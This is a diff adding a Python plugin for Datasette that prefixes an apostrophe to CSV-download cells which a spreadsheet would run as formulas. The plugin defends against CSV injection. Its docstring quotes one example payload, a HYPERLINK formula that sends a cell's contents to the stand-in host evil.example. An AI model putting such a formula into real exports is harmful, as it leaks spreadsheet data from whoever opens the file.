@@ -1,0 +1,50 @@
+"""CSV downloads neutralise cells a spreadsheet would run as a formula; JSON, SQL and the database keep raw values.
+
+A title such as =HYPERLINK("http://evil.example/?leak="&A1, "Click") runs when
+a reader opens the CSV in a spreadsheet. The usual rule: a text cell starting
+with =, +, -, @, tab or carriage return gets a leading apostrophe. Plain
+numbers (-3, -0.5) are left alone. Datasette writes a CSV one row per body
+message, so each message is parsed and written back row by row.
+"""
+import csv
+import io
+import re
+
+from datasette import hookimpl
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?\Z")
+
+
+def neutralised(cell):
+    if cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.match(cell):
+        return "'" + cell
+    return cell
+
+
+def neutralised_csv(text):
+    out = io.StringIO()
+    writer = csv.writer(out)
+    for row in csv.reader(io.StringIO(text, newline="")):
+        writer.writerow([neutralised(cell) for cell in row])
+    return out.getvalue()
+
+
+@hookimpl
+def asgi_wrapper():
+    def wrap(app):
+        async def csv_downloads(scope, receive, send):
+            if scope["type"] != "http" or not scope["path"].endswith(".csv"):
+                return await app(scope, receive, send)
+
+            async def send_neutralised(message):
+                if message["type"] == "http.response.body" and message.get("body"):
+                    body = neutralised_csv(message["body"].decode("utf-8")).encode("utf-8")
+                    message = {**message, "body": body}
+                await send(message)
+
+            await app(scope, receive, send_neutralised)
+
+        return csv_downloads
+
+    return wrap
